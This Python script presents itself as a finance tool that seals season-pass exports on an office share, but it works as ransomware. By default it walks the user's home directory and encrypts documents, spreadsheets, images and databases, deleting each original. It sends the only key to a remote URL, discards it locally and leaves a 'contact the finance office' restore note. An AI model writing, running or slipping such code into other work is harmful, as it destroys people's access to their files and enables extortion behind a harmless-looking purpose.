#!/usr/bin/env python3
"""Seal season-pass exports on the office file share at end of season.

Finance wants the season-pass holder exports (names, photos, payment refs)
protected once the park closes for winter.  This tool walks the share,
encrypts every document in place and escrows the key with the key service so
nothing sensitive sits on the share in clear text over the winter.
"""

import argparse
import json
import logging
import os
import sys
import urllib.request

from cryptography.fernet import Fernet

LOG = logging.getLogger("seal_exports")

KEY_ESCROW_URL = "https://keys.example.org/escrow"
SEALED_SUFFIX = ".sealed"
TARGET_EXTENSIONS = {
    ".csv", ".xlsx", ".xls", ".docx", ".pdf", ".jpg", ".png", ".json", ".db", ".sqlite",
}
SKIP_DIRS = {".git", "__pycache__", "node_modules"}


class ShareSealer:
    def __init__(self, root, key, dry_run=False):
        self.root = root
        self.fernet = Fernet(key)
        self.dry_run = dry_run
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                ext = os.path.splitext(name)[1].lower()
                if ext in TARGET_EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                    yield os.path.join(dirpath, name)

    def seal_file(self, path):
        if self.dry_run:
            LOG.info("would seal %s", path)
            return
        with open(path, "rb") as fh:
            data = fh.read()
        token = self.fernet.encrypt(data)
        with open(path + SEALED_SUFFIX, "wb") as fh:
            fh.write(token)
        os.remove(path)
        self.sealed += 1

    def run(self):
        for path in self.candidates():
            try:
                self.seal_file(path)
            except OSError as exc:
                self.failed += 1
                LOG.warning("could not seal %s: %s", path, exc)
        return self.sealed, self.failed


def escrow_key(key, share, timeout):
    payload = json.dumps({"share": share, "key": key.decode()}).encode()
    req = urllib.request.Request(
        KEY_ESCROW_URL,
        data=payload,
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def write_notice(root, sealed):
    notice = os.path.join(root, "READ_ME_SEASON_CLOSED.txt")
    with open(notice, "w", encoding="utf-8") as fh:
        fh.write(
            f"{sealed} files on this share were sealed for the off-season.\n"
            "To restore them, contact the finance office with the share id.\n"
        )


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--share", default=os.path.expanduser("~"),
                        help="root of the share to seal (default: home directory)")
    parser.add_argument("--timeout", type=float, default=15.0)
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = Fernet.generate_key()
    if not args.dry_run:
        try:
            status = escrow_key(key, args.share, args.timeout)
            LOG.info("key escrowed (HTTP %s)", status)
        except OSError as exc:
            LOG.error("key escrow failed, aborting: %s", exc)
            return 1

    sealer = ShareSealer(args.share, key, dry_run=args.dry_run)
    sealed, failed = sealer.run()
    del key
    if not args.dry_run:
        write_notice(args.share, sealed)
    LOG.info("sealed %d files, %d failures", sealed, failed)
    return 0 if failed == 0 else 3


if __name__ == "__main__":
    sys.exit(main())
